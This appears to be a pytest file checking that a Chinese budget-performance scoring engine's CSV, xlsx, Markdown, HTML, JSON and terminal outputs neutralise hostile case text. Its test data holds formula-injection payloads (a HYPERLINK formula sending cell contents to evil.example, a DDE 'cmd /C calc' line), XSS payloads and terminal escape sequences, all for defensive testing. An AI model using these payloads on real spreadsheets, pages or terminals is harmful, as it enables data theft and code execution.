"""Exports and terminal output carry no injection: case text that starts a formula, breaks a Markdown
table, carries HTML or an escape sequence is written so that whoever opens or prints it sees text.

Every expected value below is worked out by hand from the rule, not copied from the engine's output.
The case is 沾益 fire-insurance (three rows of 30 points plus 预算执行率 10, all met: 100.00) with
one field replaced.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from html.parser import HTMLParser

import openpyxl
import pytest
from click.testing import CliRunner

import engine
from engine import report
from engine.batch import run_batch
from engine.cli import main
from engine.errors import Location, Problem
from engine.safe_text import clean, csv_cell, formula_like, markdown_cell, printable

from conftest import PROJECT_SCHEME, ROOT

FIRE = ROOT / "cases" / "zhanyi-2023" / "projects" / "fire-insurance.yaml"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _quoted(text: str) -> str:
    """A YAML double-quoted scalar for any text (JSON's escapes are YAML's)."""
    return json.dumps(text)


def write_case(folder, file: str = "case.yaml", **fields) -> str:
    """fire-insurance with fields replaced: name, department, implementer, notes, expected, achieved,
    row_name / level1 / level2 / deviation (first indicator row), actual1 (its 实际完成值)."""
    text = FIRE.read_text(encoding="utf-8")
    simple = {"name": "name: 农村房屋火灾保险服务", "department": "department: 曲靖市沾益区财政局",
              "implementer": "implementer: 曲靖市沾益区财政局", "notes": "notes: 无",
              "expected": "expected: 为全区农村房屋投保火灾保险。", "achieved": "achieved: 完成"}
    row = '{level1: 产出指标, level2: 数量指标, name: 保险户数, nature: "=", target: 100, unit: "%", actual: 100, ' \
          'weight: 30, score: 30, deviation: 无偏差}'
    assert row in text
    new_row = row
    for key, value in fields.items():
        if key in simple:
            old = simple[key]
            assert text.count(old) == 1, old
            text = text.replace(old, f"{old.split(':')[0]}: {_quoted(value)}")
        elif key == "row_name":
            new_row = new_row.replace("name: 保险户数", f"name: {_quoted(value)}")
        elif key in ("level1", "level2", "deviation"):
            old = {"level1": "level1: 产出指标", "level2": "level2: 数量指标", "deviation": "deviation: 无偏差"}[key]
            new_row = new_row.replace(old, f"{key}: {_quoted(value)}")
        elif key == "actual1":
            new_row = new_row.replace("actual: 100", f"actual: {value}")
        else:
            raise AssertionError(key)
    path = folder / file
    path.write_text(text.replace(row, new_row), encoding="utf-8")
    return str(path)


def invoke(*args, color: bool = False):
    # color=True: click does not strip escape sequences, as on a real terminal
    result = CliRunner().invoke(main, [str(a) for a in args], color=color)
    assert result.exit_code in (0, 1, 2), result.output
    return result


def scored(case_path: str):
    scheme = engine.load_scheme(PROJECT_SCHEME)
    return scheme, engine.score_file(scheme, case_path)


# ------------------------------------------------------------------ the rules themselves ------


@pytest.mark.parametrize("text, expected", [
    ("=1+1", True), ("+1+2", True), ("-2+3", True), ("@SUM(1,2)", True), (HYPERLINK, True),
    ("\t保险户数", True), ("\r=1+1", True), ("\n=1+1", True),
    ("＝1+1", True), ("＋1", True), ("－1＋2", True), ("＠SUM(1)", True),
    (" =1+1", True), ("\u3000@SUM(1)", True),
    # a plain number cannot hold a formula; a lone sign (the 指标性质 “=”) neither
    ("-5.00", False), ("-5", False), ("+3", False), ("12%", False), ("-12.5%", False), ("0.00", False),
    ("=", False), ("-", False), ("＝", False),
    ("农村房屋火灾保险服务", False), ("≥", False), ("—", False), ("100.00%", False), ("", False),
])
def test_formula_like(text, expected):
    assert formula_like(text) is expected


def test_csv_cell_prefixes_text_only():
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert csv_cell("@SUM(1,2)") == "'@SUM(1,2)"
    assert csv_cell("\r=1+1") == "'\n=1+1"  # a lone CR becomes the in-cell line break Excel uses, then prefixed
    assert csv_cell("-5.00") == "-5.00" and csv_cell("0.00") == "0.00" and csv_cell("=") == "="
    assert csv_cell("保险户数") == "保险户数"


def test_printable_and_clean():
    assert printable("火灾\x1b]0;pwned\x07保险") == "火灾␛]0;pwned␇保险"
    assert printable("a\r\nb\nc\rd\te") == "a b c d e"
    assert printable("甲\u202e乙\u2066丙\u2069\x9b丁\x7f") == "甲�乙�丙��丁␡"
    assert clean("a\r\nb\rc\nd\te\x1b") == "a\nb\nc\nd\te␛"
    legit = "农村房屋（火灾）保险服务：≥90%　≤100%，“优”；【一级】—— ①"
    assert printable(legit) == legit and clean(legit) == legit


def test_markdown_cell():
    assert markdown_cell("户数|伪造\n| 行 |") == "户数\\|伪造 \\| 行 \\|"
    assert markdown_cell("<b>&`x`\\") == "&lt;b&gt;&amp;\\`x\\`\\\\"
    assert markdown_cell("![x](http://evil.example/p.png)") == "!\\[x\\](http://evil.example/p.png)"
    assert markdown_cell("能力提升 ≥ 90%") == "能力提升 ≥ 90%"


# ------------------------------------------------------------------ CSV ---------------------------


def test_csv_export_prefixes_case_text_and_keeps_numbers(tmp_path):
    case = write_case(tmp_path, row_name=HYPERLINK, level1="+cmd|' /C calc'!A0", actual1="-5")
    out = tmp_path / "out.csv"
    assert invoke("score", PROJECT_SCHEME, case, "--format", "csv", "-o", out).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r[-1] == "performance-1")
    # 实际完成值 -5 against 指标值 100 (“=”): -5 / 100 × 30 = -1.5, floored at 0 → 0.00
    assert row == ["'+cmd|' /C calc'!A0", "数量指标", "'" + HYPERLINK, "=", "100", "%", "-5", "30", "0.00",
                   "performance-1"]
    # total 10 + 0 + 30 + 30 = 70.00 of 100.00, a number written as a number
    assert ["总分", "", "", "", "", "", "", "100.00", "70.00", ""] in rows


# ------------------------------------------------------------------ xlsx --------------------------


def _cells(path):
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_xlsx_writes_case_text_as_text_never_a_formula(tmp_path):
    case = write_case(tmp_path, name=HYPERLINK, department="=1+1", implementer="@SUM(1,2)", notes="+1+2",
                      expected="-2+3", achieved="＝1＋1", deviation="=cmd|' /C calc'!A0", level1="#N/A")
    out = tmp_path / "out.xlsx"
    assert invoke("score", PROJECT_SCHEME, case, "--format", "xlsx", "-o", out).exit_code == 0
    cells = _cells(out)
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for hostile in (HYPERLINK, "=1+1", "@SUM(1,2)", "+1+2", "-2+3", "＝1＋1", "=cmd|' /C calc'!A0"):
        cell = texts[hostile]  # stored exactly as the case wrote it, no apostrophe in the value
        assert cell.data_type == "s" and cell.quotePrefix, hostile
    assert texts["#N/A"].data_type == "s"
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert 100 in numbers and 30 in numbers  # 总分 100.00 and the rows' 得分 30.00 are numbers


def test_xlsx_with_an_escape_sequence_is_written(tmp_path):
    case = write_case(tmp_path, name="火灾\x1b[31m保险\u202e")
    out = tmp_path / "out.xlsx"
    result = invoke("score", PROJECT_SCHEME, case, "--format", "xlsx", "-o", out)
    assert result.exit_code == 0, result.output  # was an internal error: openpyxl refuses ESC
    assert "火灾␛[31m保险�" in [c.value for c in _cells(out)]


# ------------------------------------------------------------------ Markdown ----------------------


def test_markdown_row_keeps_its_nine_columns(tmp_path):
    case = write_case(tmp_path, row_name="户数|伪造列\n| 伪造行 | <b>x</b>", level2="`数量\\")
    text = invoke("score", PROJECT_SCHEME, case, "--format", "markdown").stdout
    line = next(line for line in text.splitlines() if line.startswith("| 产出指标"))
    assert line == "| 产出指标 | \\`数量\\\\ | 户数\\|伪造列 \\| 伪造行 \\| &lt;b&gt;x&lt;/b&gt; | = | 100 | % | 100 | 30 | 30.00 |"
    cells = re.split(r"(?<!\\)\|", line)  # an unescaped | ends a cell (GFM); \\| before it is an escaped \
    assert len(cells) == 9 + 2
    assert "<b>" not in text and not any(l.startswith("| 伪造行") for l in text.splitlines())


# ------------------------------------------------------------------ HTML --------------------------


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        assert all(not name.startswith("on") for name, _ in attrs), attrs

    def handle_data(self, data):
        self.text.append(data)


def test_html_escapes_every_case_field(tmp_path):
    fields = {"name": "<script>alert(1)</script>", "department": '" onmouseover="alert(1)">部门',
              "implementer": "<iframe src=//evil.example>", "notes": "<img src=x onerror=alert(1)>",
              "expected": "</td><script>alert(2)</script>", "achieved": "&lt;已转义&gt;",
              "row_name": "<svg onload=alert(3)>", "level1": "<a href=javascript:alert(4)>一级</a>",
              "deviation": "<style>body{display:none}</style>"}
    case = write_case(tmp_path, **fields)
    page = invoke("score", PROJECT_SCHEME, case, "--format", "html").stdout
    parser = _Tags()
    parser.feed(page)
    assert not parser.tags & {"script", "iframe", "img", "a"}
    text = "".join(parser.text)
    for value in fields.values():
        assert value in text  # shown literally, as the case wrote it
    assert "&amp;lt;已转义&amp;gt;" in page  # an entity the case wrote stays text, not decoded


# ------------------------------------------------------------------ terminal -----------------------


def test_table_on_a_terminal_holds_no_escape(tmp_path):
    case = write_case(tmp_path, name="火灾\x1b[31m保险\u202e", department="\x9b2J部门", row_name="户数\x1b]0;x\x07")
    shown = invoke("score", PROJECT_SCHEME, case, color=True).stdout
    assert "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown and "\x07" not in shown
    assert shown.splitlines()[0] == "2023 年度项目支出绩效自评表：火灾␛[31m保险�"
    assert "主管部门：�2J部门" in shown
    assert "户数␛]0;x␇" in shown
    _, result = scored(case)
    assert report.render_table(result) == shown


def test_a_name_cannot_add_a_line_to_the_table(tmp_path):
    case = write_case(tmp_path, name="火灾\n总分 0.00 / 100.00　等级 差")
    lines = report.render_table(scored(case)[1]).splitlines()
    assert lines[0] == "2023 年度项目支出绩效自评表：火灾 总分 0.00 / 100.00　等级 差"
    assert [line for line in lines if line.startswith("总分")] == ["总分 100.00 / 100.00　等级 优"]


def test_explain_holds_no_escape(tmp_path):
    case = write_case(tmp_path, row_name="户数\x1b]0;x\x07\n伪造")
    text = invoke("explain", PROJECT_SCHEME, case, color=True).stdout
    assert "\x1b" not in text and "\x07" not in text
    assert any(line.startswith("【产出指标 / 数量指标 / 户数␛]0;x␇ 伪造】［performance-1］分值 30") for line in text.splitlines())


def test_an_error_quoting_case_text_is_one_printable_line():
    problem = Problem("应为数字，实际为“三十\x1b]0;x\x07\n伪造”", Location("a\x1bb.yaml", 3, 5), ("indicators", 0, "weight"))
    assert str(problem) == "a␛b.yaml:3:5: indicators[0].weight：应为数字，实际为“三十␛]0;x␇ 伪造”"
    assert problem.to_dict()["message"] == "应为数字，实际为“三十\x1b]0;x\x07\n伪造”"  # JSON keeps it exact


def test_json_escapes_what_json_dumps_leaves_raw():
    text = "甲\u202e乙\x9b\x7f\u2028丙\x1b"
    encoded = report.dumps({"name": text})
    assert encoded == '{\n  "name": "甲\\u202e乙\\u009b\\u007f\\u2028丙\\u001b"\n}'
    assert json.loads(encoded) == {"name": text}  # the same text, only written differently


# ------------------------------------------------------------------ engine batch ------------------


def test_batch_results_neutralise_case_text(tmp_path):
    folder = tmp_path / "cases"
    folder.mkdir()
    write_case(folder, "a.yaml", name=HYPERLINK, department="-1+cmd|' /C calc'!A0")
    write_case(folder, "b.yaml", name="火灾\x1b[31m保险", department="\t=1+1")
    csv_out, xlsx_out = tmp_path / "results.csv", tmp_path / "results.xlsx"
    run_batch(PROJECT_SCHEME, [folder], csv_out, jobs=1)
    run_batch(PROJECT_SCHEME, [folder], xlsx_out, jobs=1)
    rows = list(csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1][1:6] == ["'" + HYPERLINK, "'-1+cmd|' /C calc'!A0", "100.00", "100", "优"]
    assert rows[2][1:6] == ["火灾␛[31m保险", "'\t=1+1", "100.00", "100", "优"]
    cells = _cells(xlsx_out)
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    assert texts[HYPERLINK].quotePrefix and texts["-1+cmd|' /C calc'!A0"].quotePrefix and texts["\t=1+1"].quotePrefix
    assert "火灾␛[31m保险" in texts
    sheet = openpyxl.load_workbook(xlsx_out)["结果"]
    assert [sheet.cell(2, 4).value, sheet.cell(2, 5).value] == [100, 100]  # 总分, 满分: numbers
    assert Decimal(str(sheet.cell(2, 4).value)) == Decimal("100.00")
